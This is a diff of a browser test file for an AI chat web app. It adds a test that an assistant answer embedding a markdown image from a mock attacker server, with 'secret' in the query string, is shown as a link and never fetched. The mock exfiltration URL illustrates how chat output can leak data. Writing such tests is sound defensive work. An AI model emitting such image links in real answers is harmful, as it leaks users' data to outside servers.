@@ -1,4 +1,6 @@
 import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
@@ -113,6 +115,9 @@ async function getConversation(conversationId: string): Promise<ConversationDeta
 }
 
 const normalize = (text: string) => text.replace(/\s+/g, " ").trim();
+
+const onePixelPng =
+  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
 
 /** Samples the last answer's length until it reaches `atLeast` characters; returns every sample. */
 async function sampleGrowth(page: Page, atLeast: number): Promise<number[]> {
@@ -424,6 +429,37 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     expect(await link.count()).toBeGreaterThan(0);
   });
 
+  it("shows a remote image as a link with its URL and never requests it; data: images render", async () => {
+    // A second origin on this machine stands in for an attacker's server and counts what reaches it.
+    let hits = 0;
+    const evil = createServer((_req, res) => {
+      hits++;
+      res.writeHead(204).end();
+    });
+    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
+    try {
+      const remote = `http://127.0.0.1:${(evil.address() as AddressInfo).port}/pixel.png?q=secret`;
+      const page = await openApp();
+      const stream = server.sim!.control({ lastUserIncludes: "remote-image" });
+      await send(page, "Show me a picture remote-image");
+      await stream.connected;
+      await stream.push({ content: `Here: ![the secret](${remote}) and ![dot](${onePixelPng})` });
+      await stream.push({ done: true });
+      await waitForAnswerState(page, "stop");
+
+      const answer = lastAnswer(page);
+      const blocked = answer.locator('[data-testid="blocked-image"]');
+      await blocked.waitFor();
+      expect(await blocked.locator("a").getAttribute("href")).toBe(remote);
+      expect(await blocked.textContent()).toBe(`Image: the secret (${remote})`);
+      expect(await answer.locator("img").evaluateAll((imgs) => imgs.map((img) => img.getAttribute("src")))).toEqual([onePixelPng]);
+      await page.waitForFunction(() => document.querySelector<HTMLImageElement>('[data-testid="messages"] img')?.complete === true);
+      expect(hits).toBe(0);
+    } finally {
+      await new Promise((resolve) => evil.close(resolve));
+    }
+  });
+
   it("highlights code blocks and copies their text with the copy button", async () => {
     const page = await openApp();
     await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin: baseUrl });
@@ -588,6 +624,9 @@ describe.skipIf(!runBrowserTests)("web app in Chromium against the real API and 
     const reasoning = lastAnswer(page).locator("details.reasoning");
     await reasoning.waitFor();
     expect(((await reasoning.locator(".reasoning__text").textContent()) ?? "").length).toBeGreaterThan(10);
+    // The chip gets what it asks for: a short list about server-sent events.
+    expect(await lastAnswer(page).locator(".markdown li").count()).toBeGreaterThanOrEqual(3);
+    expect(await answerText(page)).toContain("Last-Event-ID");
     const request = server.sim!.chatRequests().at(-1)?.body as { think?: unknown };
     expect(request.think).toBe(true);
 
